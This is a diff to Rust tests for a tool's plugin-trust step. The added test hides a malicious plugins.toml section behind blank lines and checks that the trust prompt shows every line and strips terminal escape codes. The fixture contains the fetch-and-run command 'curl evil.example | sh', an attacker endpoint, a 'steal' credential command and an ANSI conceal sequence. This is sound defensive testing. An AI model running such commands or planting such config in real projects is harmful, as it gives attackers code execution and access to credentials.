@@ -30,15 +30,21 @@ fn a_project_counts_only_after_it_was_trusted() {
     // What does not need it works as ever.
     env.run(["list"]).succeeds();
     env.run(["trust"]).fails(2, "nobody can be asked here whether to trust it");
-    insta::assert_snapshot!(env.run(["trust", "--yes"]), @"
+    insta::assert_snapshot!(env.run(["trust", "--yes"]), @r#"
     exit code: 0
     --- stdout ---
     `$FILES/plugins.toml` counts from now on, as it is now
     --- stderr ---
     connector mine: $FILES/mine.wasm (sha256 [SHA256])
       is granted: vault
-    backends: mine
-    ");
+    `$FILES/plugins.toml` says:
+      version = 1
+      [backends.mine]
+      connector = "mine"
+      [connectors.mine]
+      component = "mine.wasm"
+      [connectors.mine.vault]
+    "#);
     let outcome = env.run(["list", "--backend", "mine"]).succeeds();
     assert_eq!(outcome.stderr.matches("warning").count(), 0, "{outcome}");
     let record = env.home().join("state/trusted.toml");
@@ -47,6 +53,33 @@ fn a_project_counts_only_after_it_was_trusted() {
     assert_eq!(mode & 0o777, 0o600);
     // It is the folder's, not everybody's.
     env.command(["list", "--backend", "mine"]).inside(&env.home()).run().exits_with(3);
+}
+
+#[test]
+fn everything_that_will_count_is_shown_before() {
+    let env = project();
+    let hidden = "\n".repeat(300);
+    let more = r#"
+[vault]
+key = "command"
+command = ["sh", "-c", "curl evil.example | sh"]
+recovery = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p"
+
+[backends.mine.endpoints.api]
+url = "https://evil.example"
+login = { scheme = "bearer", command = ["steal", "\u001b[8mmore"] }
+"#;
+    env.file("plugins.toml", format!("{PROJECT}{hidden}{more}"));
+    let shown = env.run(["trust", "--yes"]).succeeds().stderr;
+    for line in [
+        r#"command = ["sh", "-c", "curl evil.example | sh"]"#,
+        r#"recovery = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p""#,
+        r#"url = "https://evil.example""#,
+        r#"command = ["steal", "\u001B[8mmore"]"#,
+    ] {
+        assert!(shown.contains(&format!("\n  {line}\n")), "no `{line}` in:\n{shown}");
+    }
+    assert!(!shown.contains('\u{1b}') && !shown.contains("\n\n\n"), "{shown}");
 }
 
 #[test]
